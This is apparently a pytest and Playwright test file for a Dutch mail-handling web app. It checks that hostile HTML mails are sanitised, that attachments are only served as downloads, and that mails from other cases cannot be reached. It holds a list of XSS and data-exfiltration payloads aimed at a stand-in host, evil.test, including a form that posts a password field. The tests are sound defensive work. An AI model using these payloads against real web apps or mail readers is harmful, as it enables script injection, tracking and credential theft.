"""Hostile mails at the desk: no script runs, and nothing is asked from outside (faults row 33)."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from mailbot.domain.roles import Role
from mailbot.web.pages.case_files import cleaned
from tests.browser.test_case_page import case_of, with_file
from tests.desks import DeskServer, Network, axe
from tests.houses import plain_mail
from tests.visitors import Visitor

OUT = "http://evil.test"
HOSTILE = {
    "script": f"<script>top.hacked = 1; fetch('{OUT}/s')</script>",
    "handler": "<p onclick='top.hacked=1' onmouseover='top.hacked=1'>woord</p>",
    "picture": f"<img src='{OUT}/pixel.gif' width=1 onerror='top.hacked=1'>",
    "srcset": f"<img srcset='{OUT}/a.png 1x' src=x><picture><source srcset='{OUT}/b'></picture>",
    "css": f"<style>@import '{OUT}/c.css'; body {{ background: url({OUT}/d.png) }}</style>",
    "style": f"<div style=\"background-image:url('{OUT}/e.png');position:fixed\">woord</div>",
    "color": f"<div style=\"color: url('{OUT}/e2.png')\">woord</div>",
    "font": f"<style>@font-face {{ font-family: x; src: url({OUT}/f.woff) }}</style>",
    "svg": f"<svg onload='top.hacked=1'><image href='{OUT}/g.svg'/><script>top.hacked=1</script></svg>",
    "form": f"<form action='{OUT}/h' method=post><input name=password><button>ok</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/i'>",
    "frame": f"<iframe src='{OUT}/j'></iframe><object data='{OUT}/k'></object><embed src='{OUT}/l'>",
    "link": f"<link rel=stylesheet href='{OUT}/m.css'><link rel=prefetch href='{OUT}/n'>",
    "base": f"<base href='{OUT}/'><a href='javascript:top.hacked=1'>woord</a>",
    "video": f"<video src='{OUT}/o' autoplay poster='{OUT}/p'></video><audio src='{OUT}/q'>",
    "table": f"<table background='{OUT}/r'><tr><td background='{OUT}/s'>woord</td></tr></table>",
}


def html_mail(html: str) -> bytes:
    """Write a request with a hostile HTML body."""
    body = f"<p>Graag een kopie van alle gegevens van mijn kind Sara Bakker.</p>{html}"
    return plain_mail("Inzage <script>top.hacked=1</script>", body).replace(
        b"text/plain", b"text/html", 1
    )


def test_a_hostile_mail_runs_nothing_and_asks_nothing_from_outside(
    desk_server: DeskServer, signed_in: Callable[..., Page], network: Network
) -> None:
    """Neither as text nor as laid out; the fixture fails the test on any request that left."""
    network.expects_violations = True
    reference = case_of(desk_server, html_mail("".join(HOSTILE.values())))
    page = signed_in(Role.FG, f"/cases/{reference}")
    asked = len(network.asked)
    page.locator(".framed summary").click()
    page.wait_for_timeout(500)
    frame = page.frames[1]
    frame.wait_for_load_state()
    assert f"/cases/{reference}/mails/1/html" in "".join(network.asked[asked:])
    assert "Sara Bakker" in frame.locator("body").inner_text()
    assert (
        0
        == frame.locator(
            "script, img, svg, form, input, iframe, link, video, meta[http-equiv]"
        ).count()
    )
    assert page.evaluate("window.hacked") is None
    assert page.url.endswith(reference)
    assert [] == network.outside
    axe(page)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_nothing_hostile_is_left_in_the_cleaned_mail(name: str) -> None:
    """Each trick by itself: no address of theirs and no handler is left to be stopped."""
    left = cleaned(HOSTILE[name]).lower()
    assert "evil.test" not in left
    for word in ("script", "onload", "onerror", "onclick", "http-equiv", "<form", "<img", "url("):
        assert word not in left


def test_the_frame_of_a_mail_may_do_nothing(desk_server: DeskServer) -> None:
    """Its own headers say so, whoever opens it and however."""
    reference = case_of(desk_server, html_mail("<b>woord</b>"))
    with Visitor(desk_server, Role.FG) as visitor:
        answer = visitor.get(f"/cases/{reference}/mails/1/html")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert policy.endswith("sandbox")
    assert "nosniff" == answer.headers["x-content-type-options"]
    assert "no-store" == answer.headers["cache-control"]


@pytest.mark.parametrize(
    ("name", "kind", "content"),
    [
        (
            "tekening.svg",
            "image/svg+xml",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        ),
        ("pagina.html", "text/html", b"<script>top.hacked=1</script>"),
        ("afspraak.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
        ("rapport.pdf", "application/pdf", b"MZ\x90\x00 a program under another name"),
    ],
)
def test_an_attached_file_is_kept_and_never_shown(
    desk_server: DeskServer, name: str, kind: str, content: bytes
) -> None:
    """Whatever it says it is, it comes as bytes to keep, sandboxed besides."""
    body = "Graag een kopie van alle gegevens van mijn kind Sara Bakker."
    reference = case_of(desk_server, with_file(plain_mail("Inzage", body), name, content, kind))
    with Visitor(desk_server, Role.FG) as visitor:
        answer = visitor.get(f"/cases/{reference}/mails/1/files/0")
        shown = visitor.get(f"/cases/{reference}").text
    assert 200 == answer.status_code
    assert content.strip() == answer.content.strip()
    assert "application/octet-stream" == answer.headers["content-type"]
    assert answer.headers["content-disposition"] == f"attachment; filename*=UTF-8''{name}"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert "nosniff" == answer.headers["x-content-type-options"]
    if name == "rapport.pdf":
        assert "programma" in shown
        assert "van een ander type dan de naam zegt" in shown


def test_a_mail_of_another_case_is_not_here(desk_server: DeskServer) -> None:
    """Faults row 34: a changed number shows nothing, not even that there is something."""
    desk_server.receive(html_mail("<b>een</b>"))
    desk_server.receive(
        plain_mail("Wissen", "Wilt u alle foto's van mijn zoon wissen?", sender="ander@gezin.test")
    )
    first, second, *_ = desk_server.references()
    with Visitor(desk_server, Role.FG) as visitor:
        assert 200 == visitor.get(f"/cases/{first}/mails/1/html").status_code
        assert 404 == visitor.get(f"/cases/{second}/mails/1/html").status_code
        assert 404 == visitor.get(f"/cases/{first}/mails/x/files/0").status_code
